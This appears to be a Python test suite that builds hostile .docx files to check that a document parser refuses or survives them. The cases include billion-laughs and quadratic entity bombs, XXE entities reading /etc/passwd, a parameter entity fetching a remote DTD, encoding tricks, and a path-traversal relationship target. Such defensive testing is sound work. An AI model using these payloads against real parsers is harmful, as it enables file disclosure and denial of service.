"""Hostile XML: entities, encodings, depth, masses of one thing, references in circles, and absurd values."""

import codecs
import random
from collections.abc import Sequence
from functools import partial

from tests.document.docx_builder import (
    NAMESPACES,
    abstract,
    cell,
    docx,
    drawn_box,
    level,
    num,
    numbered,
    paragraph,
    relationship,
    relationships,
    row,
    run,
    style,
    styled,
    table,
)
from tests.document.hostile.archives import MAIN, document_xml
from tests.document.hostile.expected import Hostile, refused, survived

_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd"> %a;]>'
_BOLD = "<w:b/>"
_NOTE_REFERENCE = '<w:r><w:footnoteReference w:id="1"/></w:r>'
_DELETED_MARK = "<w:rPr><w:del w:id='1'/></w:rPr>"
_LIST = abstract(1, level(0, "decimal", "%1.")) + num(1, 1)


def body(xml: str, encoding: str = "utf-8", declaration: str = "") -> bytes:
    """A .docx whose body is `xml` in `encoding`, behind `declaration`."""
    return docx("", {MAIN: (declaration + xml).encode(encoding)})


def with_entity(doctype: str, part: str = MAIN) -> bytes:
    """A DOCTYPE in front of one part, and an entity of it in the text."""
    text = document_xml(paragraph("甲").replace("甲", "甲&a;乙"))
    return docx(paragraph("甲"), {part: doctype + text}, styles="", comments="")


def utf16(encoding: str, mark: bytes) -> bytes:
    return docx("", {MAIN: mark + (PARAMETER + document_xml()).encode(encoding)})


def nested_tables(depth: int) -> bytes:
    opening, closing = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx(opening * depth + paragraph("底") + closing * depth)


def nested_boxes(depth: int) -> bytes:
    opening, closing = "<w:p><w:r><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p>"
    return docx(opening * depth + paragraph("底") + closing * depth)


def many(chunk: str, times: int, **linked: str) -> bytes:
    """甲, `times` times `chunk` with its number put in for @, 乙. Notes to vary it keep the zip from being a bomb."""
    middle = "".join(chunk.replace("@", str(i)) for i in range(times))
    return docx(paragraph("甲") + middle + paragraph("乙"), **linked)


def one_note_often() -> bytes:
    note = f'<w:footnote w:id="1">{"".join(paragraph(f"注{i}") for i in range(2000))}</w:footnote>'
    return docx(paragraph("甲", '<w:r><w:footnoteReference w:id="1"/></w:r>' * 20_000), footnotes=note)


def chain_of_styles(count: int) -> str:
    return "".join(style(f"s{i}", f"样式{i}", based_on=f"s{(i + 1) % count}") for i in range(count))


def many_headers(count: int) -> bytes:
    return docx_with_headers([paragraph(f"眉{i}") for i in range(count)])


def docx_with_headers(headers: Sequence[str]) -> bytes:
    parts = {f"word/header{i}.xml": f"<w:hdr {NAMESPACES}>{header}</w:hdr>" for i, header in enumerate(headers)}
    links = relationships(*(relationship(f"h{i}", "header", f"header{i}.xml") for i in range(len(headers))))
    references = "".join(f'<w:headerReference w:type="default" r:id="h{i}"/>' for i in range(len(headers)))
    return docx(f"{paragraph('甲')}<w:sectPr>{references}</w:sectPr>", {**parts, "word/_rels/document.xml.rels": links})


def noise(length: int) -> str:
    """Text that cannot be packed well, so that it is no bomb."""
    return random.Random(length).randbytes(length // 2).hex()


def attributes(count: int) -> str:
    return " ".join(f'a{i}=""' for i in range(count))


def large_headers() -> bytes:
    """Headers that are each within the limits of a part and together are not."""
    return docx_with_headers([f'<w:p w:n="{i}"/>' * 90_000 for i in range(20)])


def links_to(*targets: tuple[str, str]) -> bytes:
    links = (relationship(f"l{i}", kind, target) for i, (kind, target) in enumerate(targets))
    return docx(paragraph("甲"), {"word/_rels/document.xml.rels": relationships(*links)})


def long_texts() -> bytes:
    """As much text as is read, in the widest characters."""
    return docx(paragraph("甲" + "𠀀一" * 900_000) + paragraph("乙" * 100 + noise(9_000_000)))


ENTITIES: dict[str, Hostile] = {
    "billion laughs in the body": refused("doctype", partial(with_entity, BILLION_LAUGHS.replace("l9", "a"))),
    "quadratic blowup": refused("doctype", partial(with_entity, QUADRATIC)),
    "local file as an entity": refused("doctype", partial(with_entity, XXE)),
    "address as a parameter entity": refused("doctype", partial(with_entity, PARAMETER)),
    "entity in the styles": refused("doctype", partial(with_entity, XXE, "word/styles.xml")),
    "entity in the links": refused("doctype", partial(with_entity, XXE, "_rels/.rels")),
    "entity in comments": refused("doctype", partial(with_entity, XXE, "word/comments.xml")),
    "DOCTYPE behind a long comment": refused("doctype", partial(with_entity, f"<!--{'x' * 200_000}-->" + XXE)),
    "DOCTYPE in UTF-16 LE": refused("doctype", partial(utf16, "utf-16-le", codecs.BOM_UTF16_LE)),
    "DOCTYPE in UTF-16 BE": refused("doctype", partial(utf16, "utf-16-be", codecs.BOM_UTF16_BE)),
    "DOCTYPE in UTF-16 without a mark": refused("doctype", partial(utf16, "utf-16-le", b"")),
    "DOCTYPE in UTF-32": refused("damaged-xml", partial(utf16, "utf-32-le", codecs.BOM_UTF32_LE)),
    "DOCTYPE in UTF-7": refused(
        "damaged-xml", partial(body, "+ADw-" + PARAMETER[1:], "ascii", '<?xml version="1.0" encoding="UTF-7"?>')
    ),
    "DOCTYPE in EBCDIC": refused("damaged-xml", partial(body, XXE + "<a/>", "cp037")),
    "undeclared entity": refused("damaged-xml", partial(body, document_xml(paragraph("甲")).replace("甲", "&a;"))),
}

ENCODINGS: dict[str, Hostile] = {
    "zero byte in the text": refused("damaged-xml", partial(body, document_xml(paragraph("甲\0乙")))),
    "control as a number": refused("damaged-xml", lambda: body(document_xml().replace("甲", "&#27;[31m"))),
    "bytes that are no UTF-8": refused(
        "damaged-xml", lambda: docx("", {MAIN: document_xml().encode().replace("甲".encode(), b"\xff\xfe\xfd")})
    ),
    "surrogates in UTF-8": refused(
        "damaged-xml", lambda: docx("", {MAIN: document_xml().encode().replace("甲".encode(), b"\xed\xa0\x80")})
    ),
    "UTF-8 that says UTF-16": refused(
        "damaged-xml", partial(body, document_xml(), "utf-8", '<?xml version="1.0" encoding="UTF-16"?>')
    ),
    "UTF-16 that is cut": refused(
        "damaged-xml", lambda: docx("", {MAIN: codecs.BOM_UTF16_LE + document_xml().encode("utf-16-le")[:-1]})
    ),
    "UTF-16 that says UTF-8": survived(
        partial(body, document_xml(), "utf-16", '<?xml version="1.0" encoding="UTF-8"?>'), "甲"
    ),
    "GBK that says so": survived(partial(body, document_xml(), "gbk", '<?xml version="1.0" encoding="GBK"?>'), "甲"),
    "GBK that says nothing": refused("damaged-xml", partial(body, document_xml(), "gbk")),
    "unknown encoding": refused(
        "damaged-xml", partial(body, document_xml(), "utf-8", '<?xml version="1.0" encoding="甲"?>')
    ),
    "another codec of Python": refused(
        "damaged-xml", partial(body, document_xml(), "utf-8", '<?xml version="1.0" encoding="hex"?>')
    ),
    "not closed": refused("damaged-xml", partial(body, document_xml()[:-20])),
    "no XML": refused("damaged-xml", partial(body, "甲")),
    "empty part": refused("damaged-xml", partial(body, "")),
    "another root": refused("no-text", partial(body, "<html/>")),
    "no text": refused("no-text", partial(docx, "<w:p/>" * 1000)),
    "only characters that nobody sees": refused("no-text", partial(docx, paragraph("\u200b\u202e\ufeff"))),
}

MASSES: dict[str, Hostile] = {
    "depth of 100,000": refused(
        "too-complex", lambda: docx("".join(f'<w:sdt w:a="{i}">' for i in range(100_000)) + "</w:sdt>" * 100_000)
    ),
    "1,000 nested tables": refused("too-complex", partial(nested_tables, 1000)),
    "80 nested tables": survived(partial(nested_tables, 80), "底"),
    "1,000 nested text boxes": refused("too-complex", partial(nested_boxes, 1000)),
    "60 nested text boxes": survived(partial(nested_boxes, 60), "底"),
    "text of 11 MB in one piece": refused("too-complex", lambda: docx(paragraph(noise(11_000_000)))),
    "40 MB of text in small pieces": refused("too-much-text", partial(many, paragraph("@" + "一二三四" * 250), 13_000)),
    "text up to the limit": survived(long_texts, "甲" + "𠀀一" * 49 + "𠀀", "乙" * 100),
    "450,000 elements": refused("too-many-elements", partial(many, '<w:p w:a="@"/>', 450_000)),
    "390,000 empty paragraphs": survived(partial(many, '<w:p w:a="@"/>', 390_000), "甲", "乙"),
    "1,000,000 attributes": refused("too-many-elements", lambda: docx(f"<w:p {attributes(1_000_000)}/>")),
    "100,000 numbered paragraphs": refused(
        "too-many-elements", partial(many, numbered("@", 1), 100_000, numbering=_LIST)
    ),
    "40,000 numbered paragraphs": survived(
        partial(many, numbered("@", 1), 40_000, numbering=_LIST), "甲", "1.0", "2.1", "乙", blocks=40_002
    ),
    "40,000 typed heading numbers": survived(
        partial(many, paragraph("（一）第@件事") + paragraph("1.第@件事"), 20_000),
        "甲",
        "（一）第0件事",
        "1.第0件事",
        "乙",
        blocks=40_002,
    ),
    "40,000 headings of as many sizes": survived(
        partial(
            many,
            paragraph(run("一、小标题", f'{_BOLD}<w:sz w:val="1@"/>'))
            + paragraph(run("小标题", f'{_BOLD}<w:sz w:val="2@"/>')),
            20_000,
        ),
        "甲",
        "一、小标题",
        "小标题",
        "乙",
        blocks=40_002,
    ),
    "heading numbers without end": survived(
        lambda: docx(paragraph("第" + "十" * 90_000 + "章") + paragraph("第" + "9" * 90_000 + "节") + paragraph("甲")),
        "第" + "十" * 99,
        "第" + "9" * 99,
        "甲",
    ),
    "row of 40,000 wide cells": survived(
        lambda: docx(table(row(*[cell(paragraph("格"), '<w:gridSpan w:val="63"/>')] * 40_000)) + paragraph("乙")),
        "格",
        "格",
        "格",
        "乙",
        blocks=40_001,
    ),
    "45,000 rows of wide cells": survived(
        lambda: docx(table(*[row(cell(paragraph("格"), '<w:gridSpan w:val="63"/>'))] * 45_000)),
        "格",
        "格",
        "格",
        "格",
        blocks=45_000,
    ),
    "column of 60,000 merged cells": survived(
        lambda: docx(table(*[row(cell(paragraph(), "<w:vMerge/>"))] * 60_000) + paragraph("乙")), "乙"
    ),
    "75,000 paragraphs joined over markers": survived(
        partial(many, f'<w:p><w:pPr>{_DELETED_MARK}</w:pPr></w:p><w:bookmarkStart w:id="@"/>', 75_000), "甲", "乙"
    ),
    "130,000 fields that never end": survived(
        partial(many, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>', 130_000), "甲", "乙"
    ),
    "95,000 runs in one paragraph": survived(
        lambda: docx(paragraph("".join(run("字", _BOLD) for _ in range(95_000)))), "字" * 100
    ),
    "90,000 hidden runs": survived(
        lambda: docx(paragraph("甲", "".join(run("字", "<w:vanish/>") for _ in range(90_000)))), "甲", hidden_text=1
    ),
    "one note referred to 20,000 times": survived(one_note_often, "甲", "注0", "注1", "注1999", blocks=2001),
    "190,000 comments": survived(
        lambda: docx(paragraph("甲", '<w:r><w:commentReference w:id="1"/></w:r>' * 190_000)), "甲", comment=1
    ),
    "25,000 text boxes": survived(
        lambda: docx(paragraph("甲", f"<w:r>{drawn_box(paragraph('框'))}</w:r>" * 25_000)),
        "甲",
        "框",
        "框",
        "框",
        blocks=25_001,
    ),
    "alternatives in alternatives": survived(
        lambda: docx(
            paragraph(
                "甲", "<mc:AlternateContent><mc:Choice>" * 100 + run("乙") + "</mc:Choice></mc:AlternateContent>" * 100
            )
        ),
        "甲乙",
    ),
    "1,900 headers": survived(partial(many_headers, 1900), "甲"),
    "headers too large together": refused("too-many-elements", large_headers),
    "100,000 links": survived(lambda: links_to(*[("hyperlink", f"h{i}.xml") for i in range(100_000)]), "甲"),
    "number text of 9 MB": survived(
        partial(
            many,
            numbered("@", 1),
            30_000,
            numbering=abstract(1, level(0, "lowerLetter", "%1" * 50 + noise(9_000_000), start=32_000)) + num(1, 1),
        ),
        "甲",
        "t" * 200 + "0",
        "u" * 200 + "1",
        "乙",
        blocks=30_002,
    ),
}

CIRCLES: dict[str, Hostile] = {
    "styles in a circle": survived(
        lambda: docx(styled("a", "甲"), styles=style("a", "甲", based_on="b") + style("b", "乙", based_on="a")), "甲"
    ),
    "style based on itself": survived(lambda: docx(styled("a", "甲"), styles=style("a", "甲", based_on="a")), "甲"),
    "60,000 styles in a chain": survived(lambda: docx(styled("s0", "甲"), styles=chain_of_styles(60_000)), "甲"),
    "numbering styles in a circle": survived(
        lambda: docx(
            numbered("甲", 1),
            styles=style("a", "甲", '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>', kind="numbering"),
            numbering='<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="a"/></w:abstractNum>' + num(1, 1),
        ),
        "甲",
    ),
    "links in a circle": survived(
        lambda: links_to(("styles", "document.xml"), ("numbering", "document.xml"), ("header", "document.xml")), "甲"
    ),
    "links that lead nowhere": survived(
        lambda: links_to(("styles", "no.xml"), ("numbering", "../../../etc/passwd")), "甲", damaged_part=2
    ),
    "links without kind or target": survived(
        lambda: docx(
            paragraph("甲"),
            {"word/_rels/document.xml.rels": relationships("<Relationship/>", "<Relationship Type='/'/>")},
        ),
        "甲",
    ),
    "body that is its own list of links": refused(
        "no-text", lambda: docx("", {"_rels/.rels": relationships(relationship("a", "officeDocument", "_rels/.rels"))})
    ),
    "body outside of the file": survived(
        lambda: docx(
            paragraph("甲"),
            {"_rels/.rels": relationships(relationship("a", "officeDocument", "http://192.0.2.1/a", external=True))},
        ),
        "甲",
        external_link=1,
    ),
    "notes that refer to themselves": survived(
        lambda: docx(
            paragraph("甲", '<w:r><w:footnoteReference w:id="1"/></w:r>'),
            footnotes=f'<w:footnote w:id="1">{paragraph("注", _NOTE_REFERENCE)}</w:footnote>',
        ),
        "甲",
        "注",
    ),
}

VALUES: dict[str, Hostile] = {
    "absurd list and level": survived(lambda: docx(numbered("甲", 999_999_999, 99), numbering=_LIST), "甲"),
    "absurd start": survived(
        lambda: docx(numbered("甲", 1), numbering=abstract(1, level(0, "decimal", "%1.", start=10**12)) + num(1, 1)),
        "0.甲",
    ),
    "start of 4,300 digits": survived(
        lambda: docx(
            numbered("甲", 1) * 2,
            numbering=abstract(1, level(0, "decimal", "%1.", start=1)).replace('w:val="1"', f'w:val="{"9" * 4300}"', 1)
            + num(1, 1),
        ),
        "0.甲",
        "1.甲",
    ),
    "start below zero": survived(
        lambda: docx(
            numbered("甲", 1), numbering=abstract(1, level(0, "chineseCounting", "%1、", start=-5)) + num(1, 1)
        ),
        "-5、甲",
    ),
    "absurd span": survived(lambda: docx(table(row(cell(paragraph("甲"), '<w:gridSpan w:val="1000000000"/>')))), "甲"),
    "span below zero": survived(lambda: docx(table(row(cell(paragraph("甲"), '<w:gridSpan w:val="-3"/>')))), "甲"),
    "absurd columns before": survived(
        lambda: docx(table(row("甲", properties='<w:gridBefore w:val="999999999"/>'))), "甲"
    ),
    "sizes that are no numbers": survived(
        lambda: docx(
            "".join(
                paragraph(run(f"第{i}行", f'<w:b/><w:sz w:val="{value}"/>'))
                for i, value in enumerate(("nan", "inf", "-1e999", "１２", ""))
            )
        ),
        "第0行",
        "第1行",
        "第2行",
        "第3行",
        "第4行",
    ),
    "absurd outline level": survived(
        lambda: docx(paragraph("甲", properties='<w:outlineLvl w:val="99999999999999999999"/>')), "甲"
    ),
    "absurd symbol": survived(
        lambda: docx(
            paragraph(
                "甲",
                '<w:r><w:sym w:font="Wingdings" w:char="-FFFFFFFFFF"/><w:sym w:char="110000"/>',
                '<w:sym w:char="D800"/></w:r>',
            )
        ),
        "甲•••",
    ),
    "absurd restarts": survived(
        lambda: docx(
            numbered("甲", 1, 8),
            numbering=abstract(1, level(8, "decimal", "%9.", '<w:lvlRestart w:val="-7"/>')) + num(1, 1),
        ),
        "1.甲",
    ),
}

MARKUP = {**ENTITIES, **ENCODINGS, **MASSES, **CIRCLES, **VALUES}
